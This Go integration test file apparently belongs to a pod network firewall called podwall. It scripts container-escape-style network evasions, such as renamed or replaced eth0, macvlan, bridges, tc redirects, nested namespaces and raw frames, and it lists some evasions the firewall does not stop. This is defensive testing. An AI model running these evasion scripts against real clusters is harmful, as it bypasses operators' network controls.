package attack

import (
	"encoding/json"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/podwall/podwall/integration/attack/intruder"
	"github.com/podwall/podwall/integration/lab"
	"github.com/podwall/podwall/internal/api"
)

// A pod with CAP_NET_ADMIN makes devices and namespaces, through which it hopes
// to reach the wire without meeting a rule.
func TestDevice(t *testing.T) {
	t.Parallel()
	wage(t, newField(t), deviceAttacks(), "jail", "narrow")
}

// nest makes a namespace, and a command to act inside. With a user namespace of
// its own that takes no more than CAP_SETFCAP, which containers have by default.
const nest = `
	unshare --user --map-root-user --net sleep 60 >/dev/null 2>&1 & nested=$!
	until [ "$(readlink /proc/$nested/exe)" = "$(readlink -f "$(command -v sleep)")" ]; do sleep 0.01; done
	inside() { nsenter --target $nested --user --net --preserve-credentials "$@"; }
`

// thereAndBack moves eth0 to another namespace and back, with what it had.
const thereAndBack = `
	unshare --net sleep 60 >/dev/null 2>&1 & nested=$!
	until [ "$(readlink /proc/$nested/exe)" = "$(readlink -f "$(command -v sleep)")" ]; do sleep 0.01; done
	ip link set eth0 netns $nested
	nsenter --target $nested --net ip link set eth0 netns $$
	ip addr add $addr/24 dev eth0; ip link set eth0 up; ip route add default via $router
	kill $nested
`

// scripted attacks change the pod, then send from an ordinary socket.
func scripted(name, script string, needs ...int) attack {
	return attack{name: name, needs: append([]int{intruder.NetAdmin}, needs...), far: true, damage: true,
		act: func(_ *field, p *pod, token []byte) intruder.Act {
			return intruder.Act{Script: p.fill(script), Sends: []intruder.Send{plain(netip.AddrPortFrom(lab.World4, 8080), nil, token)}}
		}}
}

// written attacks change the pod, then write a frame to a device.
func written(name, device, script string, needs ...int) attack {
	return attack{name: name, needs: append(append([]int{intruder.NetAdmin}, needs...), intruder.NetRaw), damage: true,
		act: func(f *field, p *pod, token []byte) intruder.Act {
			send := intruder.Send{Domain: unix.AF_PACKET, Type: unix.SOCK_RAW, Device: device, Ether: etherIPv4, Packets: [][]byte{whole(f, p, token)}}
			return intruder.Act{Script: p.fill(script), Sends: []intruder.Send{send}}
		}}
}

// What scripts have in common.
const (
	renamed = "ip link set eth0 down; ip link set eth0 name x; "
	away    = "ip addr flush dev eth0; " // its addresses go elsewhere
	home    = "ip addr add $addr/24 dev $dev; ip link set $dev up; ip route replace default via $router dev $dev; "
	bound   = "ip link add m0 link eth0 type macvlan mode bridge; "
)

// deviceAttacks send by a device that the intruder makes, or has made another.
func deviceAttacks() []attack {
	return []attack{
		scripted("eth0 renamed", renamed+"ip link set x up; ip route add default via $router"),
		scripted("eth0 replaced", renamed+"ip link set x up; ip link add eth0 type veth peer name y; ip route add default via $router"),
		written("frame by eth0 renamed and back", "eth0", renamed+"ip link set x name eth0; ip link set eth0 up"),
		written("frame by a macvlan", "m0", bound+"ip link set m0 up"),
		written("frame by a bridge", "b0", "ip link add b0 type bridge; ip link set eth0 master b0; ip link set b0 up"),
		written("frame by a pair of veths and a bridge", "v0",
			"ip link add b0 type bridge; ip link add v0 type veth peer name v1; ip link set eth0 master b0; ip link set v1 master b0; ip link set b0 up; ip link set v0 up; ip link set v1 up"),
		nested("nested namespace behind a router", `
			ip link add v0 type veth peer name v1 netns $nested
			ip addr add 10.9.0.1/24 dev v0; ip link set v0 up
			inside ip addr add 10.9.0.2/24 dev v1; inside ip link set v1 up; inside ip route add default via 10.9.0.1
			sysctl -qw net.ipv4.ip_forward=1
			nft 'table ip masks { chain c { type nat hook postrouting priority srcnat; oifname "eth0" masquerade; }; }'`),
		nested("nested namespace behind a bridge", `
			ip link add b0 type bridge; ip link set b0 up
			ip link add v0 type veth peer name v1 netns $nested; ip link set v0 master b0 up
			ip addr flush dev eth0; ip link set eth0 master b0
			inside ip addr add $addr/24 dev v1; inside ip link set v1 up; inside ip route add default via $router`),
		// Only who may enter the nested namespace gets eth0 back.
		scripted("eth0 in a nested namespace and back", thereAndBack, unix.CAP_SYS_ADMIN),
		written("frame after eth0 was in a nested namespace", "eth0", thereAndBack, unix.CAP_SYS_ADMIN),
	}
}

// deviceLimits send by a device that the intruder makes, where podwall doesn't
// stop it: packets that the pod's stack routed to another device than eth0, and
// frames to an eth0 that has lost the name by which the kernel knows its guard.
func deviceLimits() []attack {
	told := func(words string, a attack) attack { a.told = words; return a }
	return []attack{
		told("m0, a macvlan device upon eth0", scripted("macvlan", bound+away+"dev=m0; "+home)),
		told("m0, a macvlan device upon eth0", scripted("macvlan with eth0's MAC", "ip link add m0 link eth0 address $mac type macvlan mode passthru; "+away+"dev=m0; "+home)),
		told("eth0 is a port of b0", scripted("bridge", "ip link add b0 address $mac type bridge; ip link set eth0 master b0; "+away+"dev=b0; "+home)),
		told("packets of v0", scripted("redirect by tc", "ip link add v0 type veth peer name v1; ip link set v0 up; ip link set v1 up; tc qdisc add dev v0 clsact; "+
			"tc filter add dev v0 egress u32 match u32 0 0 action mirred egress redirect dev eth0; "+
			"ip neigh add $router lladdr $router_mac dev v0; ip route replace default via $router dev v0 onlink src $addr")),
		told("is called x now", written("frame by eth0 renamed", "x", renamed+"ip link set x up")),
		nested("nested namespace behind a macvlan", `
			ip link add m0 link eth0 type macvlan mode bridge; ip link set m0 netns $nested
			ip addr flush dev eth0
			inside ip addr add $addr/24 dev m0; inside ip link set m0 up; inside ip route add default via $router`),
		told("has left the namespace", nested("eth0 taken into a nested namespace", `
			ip link set eth0 netns $nested
			inside ip addr add $addr/24 dev eth0; inside ip link set eth0 up; inside ip route add default via $router`)),
		told("packets of v0", nested("redirect by tc from a nested namespace", `
			ip link add v0 type veth peer name v1 netns $nested; ip link set v0 up; tc qdisc add dev v0 clsact
			tc filter add dev v0 ingress u32 match u32 0 0 action mirred egress redirect dev eth0
			inside ip addr add $addr/24 dev v1; inside ip link set v1 up
			inside ip neigh add $router lladdr $router_mac dev v1; inside ip route add default via $router`)),
		nested("nested namespace behind a macvlan with eth0's MAC", `
			ip link add m0 link eth0 type macvlan mode passthru; ip link set m0 netns $nested
			ip addr flush dev eth0
			inside ip addr add $addr/24 dev m0; inside ip link set m0 up; inside ip route add default via $router`),
	}
}

// fill puts the pod's addresses into a script.
func (p *pod) fill(script string) string {
	return fmt.Sprintf("addr=%s; mac=%s; router=%s; router_mac=%s; ",
		p.v4, net.HardwareAddr(p.mac), lab.Gateway4, net.HardwareAddr(p.router)) + script
}

// nested attacks send from a namespace inside the pod's, to which a script makes
// the way: for a while, since a device that moved takes up to a second.
func nested(name, script string) attack {
	return attack{name: name, needs: []int{intruder.NetAdmin, intruder.SetFCap}, far: true, damage: true,
		act: func(_ *field, p *pod, token []byte) intruder.Act {
			return intruder.Act{Script: p.fill(nest + script + fmt.Sprintf(`
				inside timeout 2 bash -c 'while :; do echo %s > /dev/udp/%s/8080; sleep 0.1; done' || true
				kill $nested`, token, lab.World4))}
		}}
}

// What becomes of the attached device, and what takes its place, is seen within a
// second: policyctl says what it was and what it is, and that all is well again
// once it is.
func TestDeviceIsReported(t *testing.T) {
	t.Parallel()
	f := newField(t)
	p := f.protected(t, "jail")
	for _, tt := range []struct {
		name, script string
		state        api.State
		words        string
	}{
		{"renamed", "ip link set eth0 down; ip link set eth0 name x", api.StateError, "is called x now"},
		{"replaced", "ip link add eth0 type bridge", api.StateError, "is called x now, and another device"},
		{"its name back", "ip link delete eth0; ip link set x name eth0; ip link set eth0 up", api.StateEnforced, ""},
		{"a macvlan upon it", "ip link add m0 link eth0 type macvlan", api.StateUnprotected, "m0, a macvlan device upon eth0"},
		{"the macvlan gone", "ip link delete m0", api.StateEnforced, ""},
		{"a port of a bridge", "ip link add b0 type bridge; ip link set eth0 master b0", api.StateUnprotected, "eth0 is a port of b0"},
		{"the bridge gone", "ip link delete b0", api.StateEnforced, ""},
		{"deleted", "ip link delete eth0", api.StateError, "has left the namespace"},
	} {
		must(t, p.act(t, intruder.Act{Script: tt.script}, []int{intruder.NetAdmin}))
		start := time.Now()
		eventually(t, func() error { return f.shows(t, p, tt.state, tt.words) })
		if took := time.Since(start); took > 2*time.Second {
			t.Errorf("%s: seen after %s, want a second", tt.name, took)
		}
	}
	must(t, f.told(p, "is what it was again"))
}

// shows returns an error unless policyctl says of a pod what it should.
func (f *field) shows(t *testing.T, p *pod, state api.State, words string) error {
	t.Helper()
	out, err := f.Policyctl(t.Context(), "inspect", p.ID, "-o", "json")
	if err != nil {
		return err
	}
	var i api.Inspection
	if err := json.Unmarshal([]byte(out), &i); err != nil {
		return err
	}
	if i.Status.State != state || !strings.Contains(i.Status.Message, words) {
		return fmt.Errorf("pod %s is %s: %q, want %s: %q", p.Pod(), i.Status.State, i.Status.Message, state, words)
	}
	return nil
}
